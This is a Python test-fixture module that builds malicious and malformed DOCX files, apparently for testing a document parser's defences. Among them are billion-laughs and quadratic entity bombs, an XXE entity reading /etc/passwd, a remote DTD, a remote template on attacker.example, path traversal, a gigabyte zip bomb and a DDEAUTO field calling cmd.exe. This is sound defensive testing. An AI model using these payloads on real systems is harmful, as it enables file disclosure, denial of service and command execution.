"""DOCX: entities, bombs, packages with parts missing."""

from __future__ import annotations

import zlib
from typing import Final

from .case import MEGABYTE, Case, bulletin, fine, of
from .deflate import checksum, deflated
from .zip_entries import Entry, raw_zip

_W: Final = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HEAD: Final = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_TYPES: Final = (
    _HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
).encode()
_RELS_HEAD: Final = (
    _HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
)
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS: Final = (
    f'{_RELS_HEAD}<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
).encode()

LAUGHS: Final = "".join(
    ['<!ENTITY l0 "laugh">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))]
)
"""Ten entities, the last of which is a thousand million times the first."""


def package(document: bytes | None, **parts: bytes) -> bytes:
    """A minimal package with that document.xml; further parts by name, `__` for `/` and `_` for `.`."""
    entries = [Entry("[Content_Types].xml", _TYPES), Entry("_rels/.rels", _RELS)]
    entries += [_deflated("word/document.xml", document)] if document is not None else []
    entries += [_deflated(name.replace("__", "/"), data) for name, data in parts.items()]
    return raw_zip(entries)


def _deflated(name: str, data: bytes) -> Entry:
    packer = zlib.compressobj(6, wbits=-15)
    packed = packer.compress(data) + packer.flush()
    return Entry(name, packed, method=8, size=len(data), crc=zlib.crc32(data))


def _paragraphs(text: str) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines() if line)


def _document(body: str, before: str = "") -> bytes:
    return f"{_HEAD}{before}<w:document {_W}><w:body>{body}</w:body></w:document>".encode()


def _entity(declared: str, used: str, label: str) -> bytes:
    body = f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>{_paragraphs(bulletin(label))}"
    return package(_document(body, f"<!DOCTYPE w:document [{declared}]>"))


def _nested(depth: int) -> bytes:
    """Tables in the cell of a table, the innermost with a bulletin, after one outside."""
    opened, closed = "<w:tbl><w:tr><w:tc>" * depth, "<w:p/></w:tc></w:tr></w:tbl>" * depth
    return package(_document(f"{_paragraphs(bulletin('nested'))}{opened}{_paragraphs('甲县')}{closed}"))


def _runs() -> bytes:
    return package(
        _document(f"{_paragraphs(bulletin('runs'))}<w:p>{'<w:r><w:t>一</w:t></w:r>' * MEGABYTE}</w:p>")
    )


def _bomb() -> bytes:
    """A document.xml of a gigabyte."""
    before = f"{_HEAD}<w:document {_W}><w:body>".encode()
    packed, crc = deflated(1000, before), checksum(1000, before)
    size = len(before) + 1_000_000_000
    entry = Entry("word/document.xml", packed, method=8, size=size, crc=crc)
    return raw_zip([Entry("[Content_Types].xml", _TYPES), Entry("_rels/.rels", _RELS), entry])


def _elsewhere(target: str, mode: str = "") -> bytes:
    rels = f'{_RELS_HEAD}<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="{target}"{mode}/></Relationships>'
    return raw_zip([Entry("[Content_Types].xml", _TYPES), Entry("_rels/.rels", rels.encode())])


def _remote() -> bytes:
    rels = (
        f'{_RELS_HEAD}<Relationship Id="rId9" Type="{_OFFICE}/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return package(
        _document(_paragraphs(bulletin("remote"))), **{"word___rels__document.xml.rels": rels.encode()}
    )


_FIELD: Final = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\system32\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2040)

WORDS: Final = (
    Case("docx/laughs.docx", "either", "a thousand million laughs", of(_entity(LAUGHS, "&l9;", "laughs"))),
    Case(
        "docx/quadratic.docx",
        "either",
        "one long entity, 50,000 times",
        of(lambda: _entity(f'<!ENTITY a "{"laugh" * 10_000}">', "&a;" * 50_000, "quadratic")),
    ),
    Case(
        "docx/external.docx",
        "either",
        "the file of passwords",
        of(_entity('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;", "external")),
    ),
    Case(
        "docx/parameter.docx",
        "either",
        "a declaration from the network",
        of(_entity('<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;', "x", "parameter")),
    ),
    Case(
        "docx/loop.docx",
        "either",
        "entities that name each other",
        of(_entity('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;", "loop")),
    ),
    Case("docx/bomb.docx", "problem", "a document of 1 GB", of(_bomb)),
    Case("docx/no-document.docx", "problem", "no document.xml", of(package(None))),
    Case("docx/empty-document.docx", "problem", "an empty document.xml", of(package(b""))),
    Case("docx/no-text.docx", "problem", "a document without a word", of(package(_document("<w:p/>")))),
    Case(
        "docx/not-xml.docx",
        "problem",
        "a document.xml that is no XML",
        of(package(b"<w:document><w:body>\x80")),
    ),
    Case("docx/nested.docx", "either", "tables 100,000 deep", of(lambda: _nested(100_000))),
    Case("docx/nested-a-little.docx", "ingested", "tables 50 deep", of(_nested(50))),
    Case("docx/runs.docx", "either", "a paragraph of a million runs", of(_runs)),
    Case(
        "docx/elsewhere.docx",
        "problem",
        "a document outside the package",
        of(_elsewhere("../../../../etc/passwd")),
    ),
    Case(
        "docx/far-away.docx",
        "problem",
        "a document on another machine",
        of(_elsewhere("http://attacker.example/d.xml", ' TargetMode="External"')),
    ),
    Case("docx/template.docx", "ingested", "a template on another machine", of(_remote())),
    Case(
        "docx/field.docx",
        "ingested",
        "a field that runs a command",
        of(package(_document(_FIELD + _paragraphs(bulletin("field"))))),
    ),
    Case(
        "docx/no-rels.docx",
        "either",
        "no relationships",
        of(raw_zip([_deflated("word/document.xml", _document(_paragraphs(bulletin("no-rels"))))])),
    ),
    Case("docx/ole.docx", "problem", "an encrypted document, or one of Word 97", of(_OLE)),
    Case("docx/old.doc", "problem", "a document of Word 97", of(_OLE)),
    Case("docx/text.docx", "either", "a text called .docx", of(fine("text.docx"))),
    Case("docx/page.docx", "either", "a page called .docx", of(b"<html><body><p>" + fine("page.docx"))),
    Case(
        "docx/truncated.docx",
        "problem",
        "half a document",
        of(lambda: package(_document(_paragraphs(bulletin("t") * 9)))[:600]),
    ),
    Case(
        "docx/spreadsheet.docx",
        "problem",
        "a package that is a spreadsheet",
        of(raw_zip([Entry("[Content_Types].xml", _TYPES), Entry("xl/workbook.xml", b"<workbook/>")])),
    ),
    Case(
        "docx/utf16.docx",
        "either",
        "a document.xml in UTF-16",
        of(
            package(
                _document(_paragraphs(bulletin("utf16"))).decode().replace("UTF-8", "UTF-16").encode("utf-16")
            )
        ),
    ),
)
